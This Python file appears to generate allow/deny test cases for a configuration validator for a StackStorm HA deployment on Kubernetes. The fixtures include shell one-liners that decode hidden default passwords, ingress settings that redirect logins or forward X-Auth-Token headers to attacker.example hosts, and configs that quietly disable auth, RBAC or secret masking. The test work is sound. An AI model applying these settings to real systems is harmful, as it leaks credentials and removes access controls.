# Wave 2: config-parse differential, more encodings, more edges, more store flags, unmodelled st2 options.
GOOD_HOST = 'mongodb://mongodb-0.mongodb:27017,mongodb-1.mongodb:27017,mongodb-2.mongodb:27017/?authSource=admin&replicaSet=rs0'
BAD_HOST = GOOD_HOST.replace('replicaSet=rs0', 'replicaSet=rs1')
F = 'F16-config-parse-differential'
OSLO = 'oslo.config iniparser: lines starting with # are comments whatever they contain, the option stays in its section'
OSLO_LAST = 'oslo.config cfg._Namespace._get_file_value returns val[-1]: the last value of a single-valued option in a file wins'
def uc2(cid, exp, reason, text):
    add(cid, exp, F, reason, K(patches=[userconf(text)]))
uc2('f16-auth-off-bracket-comment', 'deny', 'auth.enable = False after a comment holding "[": st2 API without login (%s; st2docs authentication)' % OSLO,
    '\n[auth]\n# off during the SSO migration [INC-1]\nenable = False\n')
uc2('f16-rbac-off-bracket-comment', 'deny', 'rbac.enable = False after a comment holding "[": RBAC not enforced (%s; stackstorm-ha.md §12)' % OSLO,
    '\n[rbac]\n# see runbook [RB-7]\nenable = False\n')
uc2('f16-db-replset-bracket-comment', 'deny', 'database.host with replicaSet=rs1 after a comment holding "[": st2 never finds the rs0 primary (%s; MongoDB connection string replicaSet)' % OSLO,
    '\n[database]\n# hosts [0..2]\nhost = %s\n' % BAD_HOST)
uc2('f16-coord-zake-bracket-comment', 'deny', 'coordination.url = zake:// after a comment holding "[": in-memory per-process locks (%s; tooz zake driver)' % OSLO,
    '\n[coordination]\n# [temp] local locks\nurl = zake://\n')
uc2('f16-messaging-ssl-bracket-comment', 'deny', 'messaging.ssl = True after "[" comment while RabbitMQ has no TLS listener: st2 cannot connect (%s)' % OSLO,
    '\n[messaging]\n# [sec] tls\nssl = True\n')
uc2('f16-mask-secrets-bracket-comment', 'deny', 'log.mask_secrets = False after "[" comment: secrets in logs (%s; st2docs secrets masking)' % OSLO,
    '\n[log]\n# debugging [INC-2]\nmask_secrets = False\n')
uc2('f16-db-ssl-bracket-comment', 'deny', 'database.ssl = True after "[" comment with mongod without TLS (%s)' % OSLO,
    '\n[database]\n# [tls]\nssl = True\n')
uc2('f16-db-host-duplicate-option', 'deny', 'database.host given twice in one section, the second with replicaSet=rs1 (%s)' % OSLO_LAST,
    '\n[database]\nhost = %s\nhost = %s\n' % (GOOD_HOST, BAD_HOST))
uc2('f16-db-host-duplicate-section', 'deny', 'two [database] sections, the second host with replicaSet=rs1 (%s; sections merge)' % OSLO_LAST,
    '\n[database]\nhost = %s\n\n[database]\nhost = %s\n' % (GOOD_HOST, BAD_HOST))
uc2('f16-coord-duplicate-option', 'deny', 'coordination.url given twice, the last zake:// (%s)' % OSLO_LAST,
    '\n[coordination]\nurl = etcd://etcd:2379\nurl = zake://\n')
uc2('f16-auth-off-duplicate-option', 'deny', 'auth.enable True then False in one section (%s)' % OSLO_LAST,
    '\n[auth]\nenable = True\nenable = False\n')
uc2('f16-messaging-url-ssl-inline', 'deny', 'messaging.ssl = True written with a colon separator after a "[" comment (oslo iniparser accepts ":" too)',
    '\n[messaging]\n# [x]\nssl: True\n')
uc2('f16s-bracket-comment-harmless', 'allow', 'a comment holding "[" before a harmless option', '\n[api]\n# see [docs]\nallow_origin = https://st2.example.com\n')
uc2('f16s-db-host-dup-good-last', 'allow', 'database.host twice, the last (effective) one correct (%s)' % OSLO_LAST,
    '\n[database]\nhost = %s\nhost = %s\n' % (BAD_HOST, GOOD_HOST))
uc2('f16s-auth-dup-true-last', 'allow', 'auth.enable False then True: the last value True wins (%s)' % OSLO_LAST,
    '\n[auth]\nenable = False\nenable = True\n')

F = 'F06-secret-encodings'
enc('f06-lzma-alone-rabbit', 'RabbitMQ default password in the .lzma (LZMA-alone) format, xz --format=lzma -dc (stackstorm-ha.md §2.1)',
    'echo XQAAgAD//////////wAcmoZis/L6bMRCwG7/ejKaE5sVjeQ5erlGPMBfa7v/6BMAAA== | base64 -d | xz --format=lzma -dc')
enc('f06-zlib-mongo', 'MongoDB default password zlib-compressed, python3 zlib.decompress (stackstorm-ha.md §2.2)',
    "echo eJyLSPUxDaoozzJ3MwgvMTEucYsKC/Ez97AITjeNcPHI9QYAqhYKFw== | base64 -d | python3 -c 'import sys,zlib;sys.stdout.write(zlib.decompress(sys.stdin.buffer.read()).decode())'")
enc('f06-zip-stored-keyfile', 'MongoDB keyfile default stored uncompressed in a zip member, unzip -p (stackstorm-ha.md §2.2)',
    'unzip -p /creds/k.zip key.txt', data={'k.zip': 'UEsDBBQAAAAAAHmOh11vM7mQIAAAACAAAAAHAAAAa2V5LnR4dDgyUEl0RHBxcm90aTVSbmdPQTdVcWJISDdjNmJGVXd5UEsBAhQDFAAAAAAAeY6HXW8zuZAgAAAAIAAAAAcAAAAAAAAAAAAAAIABAAAAAGtleS50eHRQSwUGAAAAAAEAAQA1AAAARQAAAAAA'})
enc('f06-openssl-raw-key', 'Erlang cookie default AES-256-CBC with -K/-iv written in the same script (stackstorm-ha.md §2.2)',
    'echo uyesbN1I3k2FUrGaFN4dG1Mc5qUvIAY7NpgnsxRE+k2D5J0M8jj0t8MB2tbQfIwy | openssl enc -d -aes-256-cbc -K 00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff -iv 0102030405060708090a0b0c0d0e0f10 -base64 -A')
enc('f06-lz4-secret-staging', 'RabbitMQ default in an LZ4 frame, staging (stackstorm-ha.md §2.1)',
    'lz4 -dc /creds/rabbit.lz4', data={'rabbit.lz4': 'BCJNGEBAwBgAAIA5alMrdzF1MDdOYkh0WmtlMW0ralc0Q2oAAAAA'}, base='staging')

F = 'F07-exposure-edge'
st2web_lb('f07-lb-azure-ip-ranges-open', 'deny', 'st2web LoadBalancer: spec ranges 10/8 but azure-allowed-ip-ranges 0.0.0.0/0 opens the NSG (cloud-provider-azure annotations: allowed-ip-ranges)',
          ann={'service.beta.kubernetes.io/azure-allowed-ip-ranges': '0.0.0.0/0'}, ranges=['10.0.0.0/8'])
ing_ann('f07-permanent-redirect-external', 'deny', 'permanent-redirect of st2web to an outside host: users type their st2 login into it (ingress-nginx permanent-redirect annotation)',
        {'nginx.ingress.kubernetes.io/permanent-redirect': 'https://st2-login.attacker.example/'})
add('f07-traefik-forwardauth-external', 'deny', F, 'Traefik ForwardAuth middleware to an outside address on the st2web Ingress: every request header (X-Auth-Token) sent out (Traefik forwardAuth docs)',
    K(patches=[jp('Ingress', 'st2web', [{'op': 'add', 'path': '/metadata/annotations/traefik.ingress.kubernetes.io~1router.middlewares', 'value': 'st2-prod-extauth@kubernetescrd'}], group='networking.k8s.io')],
      resources=['mw.yaml']),
    files={'mw.yaml': {'apiVersion': 'traefik.io/v1alpha1', 'kind': 'Middleware', 'metadata': {'name': 'extauth'},
                       'spec': {'forwardAuth': {'address': 'https://auth.attacker.example/check', 'trustForwardHeader': True}}}})
ing_ann('f07-auth-url-external-ip', 'deny', 'auth-url to an outside IP: request headers (X-Auth-Token) sent out (ingress-nginx external auth)',
        {'nginx.ingress.kubernetes.io/auth-url': 'http://203.0.113.7/auth'})
st2web_lb('f07s-lb-azure-tag-vnet', 'allow', 'azure-allowed-service-tags VirtualNetwork with spec ranges 10/8: only the VNet',
          ann={'service.beta.kubernetes.io/azure-allowed-service-tags': 'VirtualNetwork'}, ranges=['10.0.0.0/8'])

F = 'F11-store-runtime'
eargs('f11-etcd-force-new-cluster', 'deny', '--force-new-cluster on every member: each restart turns the member into a one-member cluster, three diverging etcd clusters behind one Service (etcd configuration docs --force-new-cluster)', '--force-new-cluster')
eargs('f11-etcd-election-invalid', 'deny', '--heartbeat-interval=5000 with the default election timeout 1000: etcd refuses to start ("election-timeout should be at least 5 times heartbeat-interval", etcd embed config validation)', '--heartbeat-interval=5000')
add('f11-etcd-peer-loopback', 'deny', F, '--listen-peer-urls=http://127.0.0.1:2380: members cannot reach each other, no quorum (etcd configuration docs)',
    K(patches=[jp('StatefulSet', 'etcd', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command/3', 'value': '--listen-peer-urls=http://127.0.0.1:2380'}])]))
margs('f11-mongo-maxconns-1', 'deny', 'mongod --maxConns 1: one connection per member; replication and every st2 service but one refused (MongoDB docs net.maxIncomingConnections)', ['--maxConns', '1'])
rconf('f11-rmq-connection-max-1', 'deny', 'connection_max = 1: each node accepts one client connection; st2 services refused (RabbitMQ configure docs connection_max)', 'connection_max = 1\n')
rconf('f11-rmq-loopback-admin', 'deny', 'loopback_users.admin = true: the admin user st2 logs in with may only connect from localhost (RabbitMQ access control docs loopback_users)', 'loopback_users.admin = true\n')
rconf('f11-rmq-total-mem-override', 'deny', 'total_memory_available_override_value = 10MB: memory alarm at once, all publishing blocked (RabbitMQ memory docs)', 'total_memory_available_override_value = 10MB\n')
rconf('f11-rmq-auth-external-only', 'deny', 'auth_mechanisms.1 = EXTERNAL only: PLAIN/AMQPLAIN refused, st2 user/password login impossible (RabbitMQ access control docs auth_mechanisms)', 'auth_mechanisms.1 = EXTERNAL\n')
rconf('f11-rmq-port-5673', 'deny', 'listeners.tcp.default = 5673 while st2 and the Service use 5672 (RabbitMQ networking docs)', 'listeners.tcp.default = 5673\n')
rconf('f11-rmq-disk-relative-100', 'deny', 'disk_free_limit.relative = 100 (100x RAM) on an 8Gi volume: disk alarm, publishers blocked (RabbitMQ disk alarms docs)', 'disk_free_limit.relative = 100\n')
rconf('f11s-rmq-connection-max-5000', 'allow', 'connection_max = 5000', 'connection_max = 5000\n')
rconf('f11s-rmq-loopback-guest', 'allow', 'loopback_users.guest = true: tightening', 'loopback_users.guest = true\n')
margs('f11s-mongo-maxconns-2000', 'allow', '--maxConns 2000', ['--maxConns', '2000'])
add('f11s-etcd-election-valid', 'allow', F, '--heartbeat-interval=200 --election-timeout=2000 (etcd tuning docs)',
    K(patches=[jp('StatefulSet', 'etcd', [{'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--heartbeat-interval=200'},
                                          {'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--election-timeout=2000'}])]))

F = 'F04-st2-config-options'
uc('f04-timersengine-disabled', 'deny', 'timersengine.enable = False: no timer fires at all, every cron/interval rule silently stops (st2common/config.py timersengine.enable)',
   '\n[timersengine]\nenable = False\n')
uc('f04-action-sensor-disabled', 'deny', 'action_sensor.enable = False: core.st2.generic.actiontrigger never emitted, rules on execution completion stop (st2common/config.py action_sensor.enable)',
   '\n[action_sensor]\nenable = False\n')
uc('f04-sensor-single-mode-no-ref', 'deny', 'sensorcontainer.single_sensor_mode = True without --sensor-ref: st2sensorcontainer exits at start, crash loop (st2reactor/container/manager.py / cmd/sensormanager.py)',
   '\n[sensorcontainer]\nsingle_sensor_mode = True\n')
uc('f04-ssh-key-missing', 'deny', 'system_user.ssh_key_file to a missing path: every remote-shell action fails to authenticate (st2common/config.py system_user.ssh_key_file; chart mounts /home/stanley/.ssh/stanley_rsa)',
   '\n[system_user]\nssh_key_file = /home/stanley/.ssh/missing_rsa\n')
uc('f04-flat-file-missing', 'deny', 'auth backend flat_file with a missing htpasswd: every login fails (st2-auth-backend-flat-file)',
   '\n[auth]\nbackend = flat_file\nbackend_kwargs = {"file_path": "/etc/st2/missing.htpasswd"}\n')
uc('f04s-timersengine-tz', 'allow', 'timer.local_timezone = Europe/Berlin: valid tz', '\n[timer]\nlocal_timezone = Europe/Berlin\n')
